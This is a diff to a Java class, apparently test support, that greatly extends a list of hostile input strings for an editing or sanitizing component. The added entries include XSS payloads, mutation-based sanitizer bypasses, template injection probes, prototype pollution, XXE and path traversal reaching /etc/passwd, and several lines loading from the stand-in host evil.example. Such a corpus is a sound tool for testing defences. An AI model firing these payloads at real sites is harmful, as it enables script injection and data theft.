@@ -1,12 +1,12 @@
-package org.maillage.editing;
+package org.maillage.support;
 
 import java.util.List;
 
 /** What somebody may type who wants a page to do more than show it. */
-final class Payloads {
+public final class Payloads {
   private Payloads() {}
 
-  static final List<String> ALL =
+  public static final List<String> ALL =
       List.of(
           // Elements
           "<script>alert(1)</script>",
@@ -69,5 +69,103 @@ final class Payloads {
           "'; MATCH (n) DETACH DELETE n; //",
           "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
           "\u202e)1(trela\u202c",
-          "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e");
+          "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
+          // More elements
+          "<script>window.ran=1</script>",
+          "<script type=module>import('//evil.example/x.js')</script>",
+          "<script/src=data:,alert(1)>",
+          "<img src=//evil.example/p.png>",
+          "<img srcset=\"//evil.example/p.png 2x\" onload=alert(1)>",
+          "<image href=x onerror=alert(1)>",
+          "<picture><source srcset=x><img onerror=alert(1) src=x></picture>",
+          "<audio src=x onerror=alert(1)>",
+          "<video poster=//evil.example/p.png onloadstart=alert(1) src=x>",
+          "<isindex action=javascript:alert(1) type=image>",
+          "<button formaction=javascript:alert(1)>Suivant</button>",
+          "<input type=image src=//evil.example/p.png formaction=javascript:alert(1)>",
+          "<select autofocus onfocus=alert(1)>",
+          "<textarea autofocus onfocus=alert(1)>",
+          "<a href=javascript:alert(1)>lien</a>",
+          "<a href=\"java&#x09;script:alert(1)\">lien</a>",
+          "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>lien</a>",
+          "<a ping=//evil.example href=/>lien</a>",
+          "<area shape=default href=javascript:alert(1)>",
+          "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
+          "<dialog open onclose=alert(1)></dialog>",
+          "<div popover id=p onbeforetoggle=alert(1)></div><button popovertarget=p>Voir</button>",
+          "<p contenteditable autofocus onfocus=alert(1)>x</p>",
+          "<div style=position:fixed;inset:0 onmouseover=alert(1)></div>",
+          "<x onclick=alert(1)>x</x>",
+          "<plaintext><script>alert(1)</script>",
+          "<xmp><script>alert(1)</script></xmp>",
+          "<template shadowrootmode=open><script>alert(1)</script></template>",
+          // Drawings and formulas
+          "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+          "<svg><set attributeName=onmouseover to=alert(1)>",
+          "<svg><use href=//evil.example/x.svg#a /></svg>",
+          "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
+          "<svg><image href=//evil.example/p.png /></svg>",
+          "<svg><style>*{background:url(//evil.example)}</style></svg>",
+          "<svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]></title></svg>",
+          "<math href=javascript:alert(1)>x</math>",
+          "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
+          "<math><annotation-xml encoding=text/html><img src=x"
+              + " onerror=alert(1)></annotation-xml></math>",
+          // Read otherwise the second time
+          "<math><mtext><mglyph><svg><mtext><style><p id=\"</style><img onerror=alert(1) src>\">",
+          "<p id=\"</p><img src=x onerror=alert(1)>\">",
+          "<select><template><img src=x onerror=alert(1)></template></select>",
+          "<table><td><a href=javascript:alert(1)>x",
+          "<a><table><a><img src=x onerror=alert(1)>",
+          "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\">",
+          "<iframe><!--</iframe><img src=x onerror=alert(1)>-->",
+          "<mark></mark><img src=x onerror=alert(1)>",
+          // Out of comments and declarations
+          "--!><img src=x onerror=alert(1)>",
+          "<!--><img src=x onerror=alert(1)>-->",
+          "<!-- --!><script>alert(1)</script>",
+          "<?xml-stylesheet href=javascript:alert(1)?>",
+          "<!DOCTYPE html [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>&x;",
+          "]]><script>alert(1)</script>",
+          // Out of data within a page
+          "</script><script>alert(1)</script>",
+          "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+          "\",\"x\":alert(1),\"y\":\"",
+          "'-alert(1)-'",
+          "\\'-alert(1)//",
+          "\";alert(1);//",
+          "__proto__[innerHTML]=<img src=x onerror=alert(1)>",
+          "{\"__proto__\":{\"ran\":1}}",
+          // More languages of templates
+          "${alert(1)}",
+          "{{constructor.constructor('alert(1)')()}}",
+          "<%= 7 * 7 %>",
+          "[[${7*7}]]",
+          "#set($x=7*7)${x}",
+          "@(7*7)",
+          // Out of styles
+          "</style><script>alert(1)</script>",
+          "x;background:url(//evil.example)",
+          "expression(alert(1))",
+          "}*{background:url(//evil.example)}",
+          // Otherwise encoded
+          "&#x3c;img src=x onerror=alert(1)&#x3e;",
+          "&lt;img src=x onerror=alert(1)&gt;",
+          "%3Cscript%3Ealert(1)%3C/script%3E",
+          "%253Cscript%253Ealert(1)%253C/script%253E",
+          "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
+          "&quot; onmouseover=&quot;alert(1)",
+          "&Tab;javascript:alert(1)",
+          "javascript&colon;alert(1)",
+          "&#106;avascript:alert(1)",
+          "feed:javascript:alert(1)",
+          "blob:https://evil.example/x",
+          "file:///etc/passwd",
+          "/\\evil.example",
+          "?q=<script>alert(1)</script>",
+          "#<img src=x onerror=alert(1)>",
+          "../../../../etc/passwd",
+          // Letters that become others
+          "<\u017fcript>alert(1)</\u017fcript>",
+          "java\u00adscript:alert(1)");
 }
